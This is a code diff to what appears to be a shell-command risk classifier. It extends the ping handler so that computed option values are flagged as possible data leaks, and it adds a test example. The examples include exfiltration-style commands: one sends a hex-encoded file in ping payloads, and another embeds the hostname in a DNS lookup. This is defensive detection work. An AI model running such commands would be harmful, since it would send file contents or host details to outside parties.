@@ -153,6 +153,8 @@ function lookup(call: Call, t: OptionTable) {
     if (o.literal === null) call.unknown('the name that is asked for may carry data away', o);
     else if (/^[\w.-]+$/.test(o.literal) && o.literal.includes('.')) call.url(o);
   }
+  for (const { value, flag } of given.options)
+    if (value && value.literal === null && !value.int) call.unknown(`${call.name} ${flag} may carry data away`, value);
 }
 
 function rsync(call: Call, t: OptionTable) {
@@ -209,7 +211,11 @@ export const network: CommandEntry[] = [
     names: 'ping ping6',
     options: '-46abdDfhLnOqrRUvVB -c: -i: -I: -l: -m: -M: -p: -Q: -s: -S: -t: -T: -w: -W:',
     handle: lookup,
-    examples: { 'ping -c1 example.invalid': 'read-only', 'ping -c1 $(hostname).x.invalid': 'unknown' },
+    examples: {
+      'ping -c1 example.invalid': 'read-only',
+      'ping -p "$(xxd -p f)" h': 'unknown',
+      'ping -c1 $(hostname).x.invalid': 'unknown',
+    },
   },
   {
     names: 'dig nslookup host drill whois getent traceroute tracepath mtr',
